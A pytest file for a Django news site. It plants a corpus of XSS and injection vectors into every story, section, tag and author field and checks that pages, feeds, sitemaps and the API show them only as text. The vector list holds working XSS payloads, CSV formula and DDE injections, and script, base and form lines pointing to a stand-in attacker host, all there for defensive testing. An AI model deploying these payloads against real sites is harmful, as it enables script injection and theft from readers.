"""Issue 10, "no live markup from a story's text": hostile text in every field a reader sees, on
every public output that shows it, stays text.

Each vector of the corpus goes into every field of one story (headline, dek, kicker, dateline,
image alt, caption and credit, body, correction, change-log note) and of its section, tag and
author; the search query carries it too. Every copy is stamped with a token naming the vector
and the field (`zq07hl`: vector 7, headline), so a finding says where it came from. A story's
own pages are checked one vector at a time; the site-wide outputs (front, feeds, sitemaps,
lists) with every vector's story at once. HTML is read as a browser would (tests/markup.py):
no element, attribute, handler or live address that the templates do not write; JSON-LD
parses and cannot end its script. XML must be well-formed, and the HTML that feed readers
render (RSS descriptions, Atom html content) is read as HTML too. JSON must parse and be
served as JSON. Each check also finds the fields it expects, so a field that silently stopped
showing fails rather than passes.
"""

import json
from datetime import UTC, datetime
from http import HTTPStatus
from urllib.parse import quote
from xml.etree.ElementTree import ParseError

import pytest
import time_machine
from django.db import connection

from articles.editorial import publishing
from articles.models import Article
from images.models import Image as LibraryImage
from tests.factories import ArticleFactory, AuthorFactory, CorrectionFactory, SectionFactory
from tests.markup import live_markup, parse_xml, read_html, xml_text
from tests.pictures import library_image, png_bytes

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 3, 4, 15, 0, tzinfo=UTC)
SLOT = "@@"  # where a vector carries its token

# fmt: off
VECTORS = [
    ("script", "<script>alert('@@')</script>"),
    ("script-mixed-case-src", "<ScRiPt src=//evil.example/@@.js></sCrIpT>"),
    ("img-onerror", "<img src=x onerror=alert('@@')>"),
    ("svg-onload", "<svg onload=alert('@@')>"),
    ("svg-script", "<svg><script>alert('@@')</script></svg>"),
    ("svg-xlink", "<svg><a xlink:href=\"javascript:alert('@@')\"><text>x</text></a></svg>"),
    ("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert('@@')>"),
    ("body-onload", "<body onload=alert('@@')>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert('@@')\"></iframe>"),
    ("a-javascript", "<a href=\"javascript:alert('@@')\">x</a>"),
    ("bare-javascript-url", "javascript:alert('@@')"),
    ("a-javascript-tab-entity", "<a href=\"jav&#x09;ascript:alert('@@')\">x</a>"),
    ("a-data-url", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">@@</a>"),
    ("object-data", "<object data=\"data:text/html,<script>alert('@@')</script>\">"),
    ("double-quote-breakout", "\" onmouseover=\"alert('@@')\" x=\""),
    ("single-quote-breakout", "' onfocus='alert(`@@`)' autofocus x='"),
    ("backtick-breakout", "` onmouseover=alert('@@') x=`"),
    ("tag-breakout", "\"><script>alert('@@')</script>"),
    ("single-tag-breakout", "'><img src=x onerror=alert('@@')>"),
    ("end-script", "</script><script>alert('@@')</script>"),
    ("comment-close", "--><script>alert('@@')</script><!--"),
    ("script-data-escape", "<!--<script>alert('@@')</script>"),
    ("cdata-close", "]]><script>alert('@@')</script><![CDATA["),
    ("end-title", "</title><script>alert('@@')</script>"),
    ("end-style", "</style><img src=x onerror=alert('@@')>"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert('@@')>\">"),
    ("template", "<template><script>alert('@@')</script></template>"),
    ("line-separators", "line\u2028para\u2029@@</script>"),
    ("nul", "nul\x00<script>alert('@@')</script>"),
    ("xml-control-chars", "ctl\x0b\x0c\x1b\x08@@"),
    ("xml-nonchars", "nonchar\ufffe\uffff@@"),
    ("rtl-override", "\u202egpj.@@exe\u202c"),
    ("jinja-template", "{{ 7*7 }} {{ config }} {% debug %} @@"),
    ("js-template", "${alert('@@')} #{7*7}"),
    ("csv-formula", "=HYPERLINK(\"http://evil.example/@@\",\"x\")"),
    ("csv-dde", "+cmd|' /C calc'!A0 @@"),
    ("percent-encoded", "%3Cscript%3Ealert('@@')%3C%2Fscript%3E"),
    ("entity-encoded", "&lt;script&gt;alert('@@')&lt;/script&gt;"),
    ("numeric-entities", "&#60;img src=x onerror=alert('@@')&#62;"),
    ("double-encoded", "&amp;lt;script&amp;gt;alert('@@')"),
    ("style-url", "<p style=\"background:url(javascript:alert('@@'))\">x</p>"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('@@')\">"),
    ("base-href", "<base href=\"https://evil.example/@@/\">"),
    ("form-action", "<form action=\"https://evil.example/@@\"><button>Go</button></form>"),
    ("json-escapes", "\\u003cscript\\u003ealert('@@')\\u003c/script\\u003e"),
    ("markdown-link", "[x](javascript:alert('@@'))"),
]
# fmt: on
VECTOR_IDS = [name for name, _ in VECTORS]

# Where each copy goes: (code in the token, description). The section, tag and author are
# the story's own, one each per vector.
FIELDS = {
    "hl": "headline",
    "dk": "dek",
    "kk": "kicker",
    "dl": "dateline",
    "al": "image alt text",
    "cp": "image caption",
    "cr": "image credit",
    "bd": "body",
    "co": "correction text",
    "nt": "change-log note",
    "sc": "section name",
    "tg": "tag name",
    "au": "author name",
    "at": "author title",
    "ab": "author bio",
    "q": "search query",
}
# The body keeps its allowed markup whatever follows it.
KEPT_BODY = (
    "<h2>Kept subhead</h2><p>The kestrel <strong>kept bold</strong> and "
    '<a href="https://example.com/kept">kept link</a>.</p>'
)


def token(index: int, code: str) -> str:
    return f"zq{index:02d}{code}"


def copy_of(index: int, code: str, limit: int | None = None) -> str:
    text = VECTORS[index][1].replace(SLOT, token(index, code))
    if limit is not None:
        assert len(text) <= limit, f"vector {VECTORS[index][0]} is too long for the {code}"
    return text


PICTURE_FIELDS = {"image_alt": "alt_text", "image_caption": "caption", "image_credit": "credit"}


def limit_of(field: str) -> int | None:
    if field in PICTURE_FIELDS:
        return LibraryImage._meta.get_field(PICTURE_FIELDS[field]).max_length
    return Article._meta.get_field(field).max_length


def cannot_store(index: int) -> bool:
    # PostgreSQL's text types cannot hold NUL at all; the desk's forms refuse it anyway
    # (test_the_desk_refuses_a_nul_character_in_a_headline).
    return connection.vendor == "postgresql" and "\x00" in VECTORS[index][1]


def plant(index: int, commits) -> Article:
    """A live story carrying vector `index` in every field, with a correction and an update."""
    copy = lambda code, field=None: copy_of(index, code, field and limit_of(field))  # noqa: E731
    section = SectionFactory(name=copy("sc"), slug=f"xss-section-{index}", position=100 + index)
    author = AuthorFactory(
        name=copy("au"), slug=f"xss-author-{index}", title=copy("at"), bio=copy("ab")
    )
    with commits():
        article = ArticleFactory(
            live=True,
            featured=index == 0,
            slug=f"xss-{index:02d}",
            headline=copy("hl", "headline"),
            dek=copy("dk"),
            kicker=copy("kk", "kicker"),
            dateline=copy("dl", "dateline"),
            body=KEPT_BODY + copy("bd"),
            lead_image=library_image(
                png_bytes(8, 6, (index, 40, 90)),
                alt_text=copy("al", "image_alt"),
                caption=copy("cp", "image_caption"),
                credit=copy("cr", "image_credit"),
            ),
            section=section,
            authors=[author],
            tags=[copy("tg")],
        )
    with commits():
        article.dek = f"{article.dek} (updated)"
        publishing.save(article, note=copy("nt"), substantive=True)
    CorrectionFactory(article=article, text=copy("co"))
    return article


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def where(finding: str) -> str:
    """The vectors and fields a finding came from, by the tokens in it."""
    named = [
        f"{VECTORS[index][0]} in the {FIELDS[code]}"
        for index in range(len(VECTORS))
        for code in FIELDS
        if token(index, code) in finding
    ]
    return ", ".join(named) or "no token: see the markup"


def report(output: str, findings: list[str]) -> str:
    return f"{output}: " + "\n".join(f"{f} [{where(f)}]" for f in findings)


def missing(text: str, index: int, codes: str) -> list[str]:
    return [FIELDS[code] for code in codes.split() if token(index, code) not in text]


# -- What each kind of output may carry -------------------------------------------------------


def html_findings(response) -> tuple[list[str], str]:
    assert response.status_code == HTTPStatus.OK, response.status_code
    assert response["Content-Type"].startswith("text/html")
    page = read_html(response.content.decode())
    return live_markup(page), page.all_text


# Elements of RSS 2.0, Atom and the sitemaps (with Google News's), by local name.
XML_ELEMENTS = frozenset(
    "rss channel title link description language lastBuildDate item pubDate guid category "
    "creator enclosure feed id updated subtitle author name uri entry published summary "
    "content urlset url loc lastmod sitemapindex sitemap news publication publication_date "
    "changefreq priority credit".split()
)
# What feed readers render as HTML: RSS descriptions, Atom summaries and content of type html.
HTML_IN_XML = frozenset({"description", "encoded"})


def xml_findings(response) -> tuple[list[str], str]:
    assert response.status_code == HTTPStatus.OK, response.status_code
    try:
        root = parse_xml(response.content)
    except ParseError as error:
        return [f"not well-formed XML: {error}"], response.content.decode(errors="replace")
    findings = []
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        if name not in XML_ELEMENTS:
            findings.append(f"element not of the format: <{name}> {element.text!r}")
        renders_html = name in HTML_IN_XML or (
            name in {"summary", "content"} and element.get("type") == "html"
        )
        if renders_html and element.text:
            fragment = read_html(element.text)
            findings.extend(f"in <{name}>: {f}" for f in live_markup(fragment, fragment=True))
    return findings, xml_text(root)


def html_values(data):
    """The HTML strings in an API or ninjs answer: `body`, ninjs `body_html`, text/html bodies."""
    if isinstance(data, dict):
        for key, value in data.items():
            if isinstance(value, str) and (
                key in {"body", "body_html"}
                or (key == "value" and data.get("contenttype") == "text/html")
            ):
                yield value
            else:
                yield from html_values(value)
    elif isinstance(data, list):
        for value in data:
            yield from html_values(value)


def json_findings(response) -> tuple[list[str], str]:
    assert response.status_code == HTTPStatus.OK, response.status_code
    findings = []
    if not response["Content-Type"].startswith("application/json"):
        findings.append(f"served as {response['Content-Type']}, not JSON")
    if response.get("X-Content-Type-Options") != "nosniff":
        findings.append("no X-Content-Type-Options: nosniff")
    data = json.loads(response.content)
    for html in html_values(data):
        found = live_markup(read_html(html), fragment=True)
        findings.extend(f"in an HTML value: {f}" for f in found)
    return findings, json.dumps(data, ensure_ascii=False)


# -- One story's outputs, one vector at a time ------------------------------------------------

STORY_OUTPUTS = {
    # name: (address of the story's output, reader, the fields it must show)
    "story page": (
        lambda a: a.get_absolute_url(),
        html_findings,
        "hl dk kk dl al cp cr co sc tg au",
    ),
    "change log": (lambda a: f"{a.get_absolute_url()}history/", html_findings, "hl dk co nt"),
    "section page": (lambda a: a.section.get_absolute_url(), html_findings, "hl dk kk sc au"),
    "section feed": (lambda a: f"{a.section.get_absolute_url()}feed/", xml_findings, "hl dk sc au"),
    "tag page": (lambda a: f"/tag/{a.tags.get().slug}/", html_findings, "hl tg au"),
    "tag feed": (lambda a: f"/tag/{a.tags.get().slug}/feed/", xml_findings, "hl tg"),
    "author page": (lambda a: a.authors.get().get_absolute_url(), html_findings, "hl au at ab"),
    "author feed": (lambda a: f"{a.authors.get().get_absolute_url()}feed/", xml_findings, "hl au"),
    "API story": (lambda a: f"/api/v1/articles/{a.uuid}/", json_findings, "hl dk kk co tg au sc"),
    "ninjs 2": (lambda a: f"/api/v1/articles/{a.uuid}/ninjs/", json_findings, "hl dk tg au"),
    "ninjs 3": (lambda a: f"/api/v1/articles/{a.uuid}/ninjs/?version=3", json_findings, "hl dk"),
    "search query": (
        lambda a: f"/search/?q={quote(copy_of(int(a.slug[4:]), 'q'))}",
        html_findings,
        "q",
    ),
}


@pytest.mark.parametrize("index", range(len(VECTORS)), ids=VECTOR_IDS)
def test_a_story_carrying_hostile_text_shows_it_as_text_everywhere(client, commits, index):
    """One story per vector (building one per output too would multiply the run time by
    twelve); each output's findings are reported apart, each naming its field."""
    if cannot_store(index):
        pytest.skip("PostgreSQL text cannot hold NUL; the desk refuses it (see the NUL test)")
    article = plant(index, commits)
    failures = []
    for output, (address, reader, shows) in STORY_OUTPUTS.items():
        findings, text = reader(client.get(address(article)))
        if findings:
            failures.append(report(output, findings))
        if absent := missing(text, index, shows):
            failures.append(f"{output}: does not show the {', '.join(absent)}")
    assert not failures, "\n".join(failures)
    # The body keeps its allowed markup, on the page and in the API.
    page = client.get(article.get_absolute_url()).content.decode()
    assert "<h2>Kept subhead</h2>" in page
    assert "<strong>kept bold</strong>" in page
    assert '<a href="https://example.com/kept">kept link</a>' in page
    assert client.get(f"/api/v1/articles/{article.uuid}/").json()["body"].startswith(KEPT_BODY)


# -- The site-wide outputs, every vector at once ----------------------------------------------

SITE_OUTPUTS = {
    # name: (addresses, reader, the fields each vector's story must show there)
    "front page": (["/"], html_findings, "sc"),
    "corrections page": (
        ["/corrections/", "/corrections/?page=2", "/corrections/?page=3"],
        html_findings,
        "co hl",
    ),
    "search results": (
        ["/search/?q=kestrel", "/search/?q=kestrel&page=2", "/search/?q=kestrel&page=3"],
        html_findings,
        "hl",
    ),
    "RSS": (["/feed/"], xml_findings, "hl dk sc tg au"),
    "Atom": (["/feed/atom/"], xml_findings, "hl dk sc tg au"),
    "corrections feed": (["/corrections/feed/"], xml_findings, "hl co"),
    "sitemap": (["/sitemap.xml"], xml_findings, ""),
    "news sitemap": (["/news-sitemap.xml"], xml_findings, "hl"),
    "API list": (["/api/v1/articles/?page_size=100"], json_findings, "hl dk kk tg au sc"),
    "API tags": (["/api/v1/tags/?page_size=100"], json_findings, "tg"),
    "API sections": (["/api/v1/sections/"], json_findings, "sc"),
}


def test_the_site_wide_outputs_show_every_hostile_story_as_text(client, commits):
    """Every vector's story at once (building them is most of the time, on PostgreSQL
    seconds); each output's findings are reported apart, each naming its vector and field."""
    stories = [plant(index, commits) for index in range(len(VECTORS)) if not cannot_store(index)]
    failures = []
    for output, (addresses, reader, shows) in SITE_OUTPUTS.items():
        findings, texts = [], []
        for address in addresses:
            found, text = reader(client.get(address))
            findings.extend(f"{address}: {f}" for f in found)
            texts.append(text)
        if findings:
            failures.append(report(output, findings))
        text = "\n".join(texts)
        for article in stories:
            index = int(article.slug[4:])
            # On SQLite a result's highlighted headline stops at a NUL (articles/search/ marks
            # matches with NUL itself); only SQLite can store one, and the desk refuses it.
            if output == "search results" and "\x00" in article.headline:
                continue
            if absent := missing(text, index, shows):
                failures.append(f"{output}: {VECTORS[index][0]}'s story shows no {absent}")
    assert not failures, "\n".join(failures)


def test_the_desk_refuses_a_nul_character_in_a_headline(admin_client, section, author):
    response = admin_client.post(
        "/admin/articles/article/add/",
        {
            "headline": "Council\x00 budget",
            "slug": "council-budget",
            "body": "<p>It passed.</p>",
            "section": section.pk,
            "kind": "news",
            "status": "draft",
            "bylines-TOTAL_FORMS": "1",
            "bylines-INITIAL_FORMS": "0",
            "bylines-0-author": author.pk,
            "bylines-0-position": "0",
            "corrections-TOTAL_FORMS": "0",
            "corrections-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == HTTPStatus.OK
    assert "Null characters are not allowed." in response.content.decode()
    assert not Article.objects.exists()


def test_every_vector_fits_every_field_it_is_planted_in():
    # Kicker (80) is the narrowest field; a vector cut short would test less than it says.
    for index in range(len(VECTORS)):
        for code, field in [("kk", "kicker"), ("dl", "dateline"), ("cr", "image_credit")]:
            copy_of(index, code, limit_of(field))
    assert len(VECTORS) >= 30
